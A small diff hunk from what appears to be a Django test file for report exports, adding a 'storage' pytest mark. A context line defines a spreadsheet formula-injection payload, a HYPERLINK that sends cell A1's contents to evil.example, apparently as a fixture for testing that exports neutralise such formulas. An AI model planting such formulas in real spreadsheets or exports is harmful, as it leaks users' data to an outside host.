@@ -17,7 +17,7 @@ from reports.files import write
 from tests import factories
 from tests.helpers import BOMB, ON_POSTGRES, at_once, logged_in
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.storage]
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
